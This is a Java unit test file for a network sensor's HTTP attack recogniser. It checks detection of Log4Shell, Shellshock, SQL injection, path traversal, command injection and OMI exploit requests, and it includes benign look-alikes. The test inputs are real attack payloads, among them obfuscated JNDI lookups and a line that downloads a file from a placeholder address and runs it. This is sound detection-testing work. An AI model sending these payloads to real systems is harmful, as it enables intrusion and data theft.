package org.cylcomed.sensor.http;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import org.cylcomed.sensor.connection.Exchange;
import org.cylcomed.sensor.protocol.Sighting;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class RequestAttackTest {
    private static List<String> attacks(String request) {
        return Exchange.tcp(80, new HttpRecogniser()).client(request).sightings(Sighting.Exploit.class).stream()
                .map(Sighting.Exploit::name)
                .toList();
    }

    private static List<String> attacksInTarget(String target) {
        return attacks("GET " + target + " HTTP/1.1\r\nHost: x\r\n\r\n");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "${jndi:ldap://198.51.100.7/a}",
                "${${lower:j}ndi:${lower:l}dap://198.51.100.7/a}",
                "${${::-j}${::-n}${::-d}${::-i}:rmi://198.51.100.7/a}",
                "${jndi:dns://${env:USER}.example}",
                "x${ jndi:ldap://198.51.100.7/a"
            })
    void jndiLookupsAreFoundHoweverTheyAreHidden(String value) {
        assertThat(attacks("GET / HTTP/1.1\r\nX-Api-Version: " + value + "\r\n\r\n"))
                .containsExactly("CVE-2021-44228");
    }

    @Test
    void aJndiLookupInACodedTargetIsFound() {
        assertThat(attacksInTarget("/?q=%24%7Bjndi%3Aldap%3A//198.51.100.7/a%7D"))
                .containsExactly("CVE-2021-44228");
    }

    @ParameterizedTest
    @ValueSource(strings = {"/?a=$5", "/${name}/x", "/a?price=$%7Bx%7D"})
    void aDollarAloneIsNoAttack(String target) {
        assertThat(attacksInTarget(target)).isEmpty();
    }

    @Test
    void aShellFunctionInAFieldIsFound() {
        assertThat(attacks("GET /cgi-bin/status HTTP/1.1\r\nUser-Agent: () { :;}; /bin/ping -c1 198.51.100.7\r\n\r\n"))
                .containsExactly("CVE-2014-6271");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "/item?id=1'+or+'1'='1",
                "/item?id=%25%27+or+%270%27%3D%270&Submit=Submit",
                "/item?id=1+union+select+null,version()",
                "/item?id=-1%20UNION%20ALL%20SELECT%201,2,3--",
                "/item?id=1%2527%2520or%25201%253D1",
                "/item?id=1'%20and%20(select%20table_name%20from%20information_schema.tables)"
            })
    void injectedSqlIsFound(String target) {
        assertThat(attacksInTarget(target)).containsExactly("SQL injection");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "/search?q=union+select+committee",
                "/search?q=o'neill+or+smith",
                "/search?q=rock+'n'+roll+or+jazz%3Dgood",
                "/a/../b/index.html",
                "/docs/etc/passwd-file-format",
                "/?next=/tmp&cmd=chmod",
                "/calc?sum=1;2;3"
            })
    void whatPeopleTypeIsNoAttack(String target) {
        assertThat(attacksInTarget(target)).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "/../../../../etc/passwd",
                "/cgi-bin/%2e%2e/%2e%2e/%2e%2e/bin/sh",
                "/static/..%252f..%252f..%252fetc/shadow",
                "/scripts/..%c0%af../winnt/system32/cmd.exe?/c+dir"
            })
    void climbingToSystemFilesIsFound(String target) {
        assertThat(attacksInTarget(target)).containsExactly("path traversal");
    }

    @Test
    void aCommandThatFetchesAndRunsIsFound() {
        assertThat(attacksInTarget("/shell?cd+/tmp;rm+-rf+*;wget+http://198.51.100.7/x;sh+/tmp/x"))
                .containsExactly("command injection");
    }

    private static String manage(String credentials, String command) {
        String body =
                "<s:Envelope><s:Body><p:" + command + "_INPUT xmlns:p=\"SCX_OperatingSystem\"/></s:Body></s:Envelope>";
        return "POST /wsman/ HTTP/1.1\r\n" + credentials + "Content-Type: application/soap+xml\r\nContent-Length: "
                + body.length() + "\r\n\r\n" + body;
    }

    @Test
    void aManagementCommandIsAnAttackOnlyWithoutCredentials() {
        assertThat(attacks(manage("", "ExecuteShellCommand"))).containsExactly("CVE-2021-38647");
        assertThat(attacks(manage("Authorization: Basic eDp5\r\n", "ExecuteShellCommand")))
                .isEmpty();
        assertThat(attacks(manage("", "GetState"))).isEmpty();
    }
}
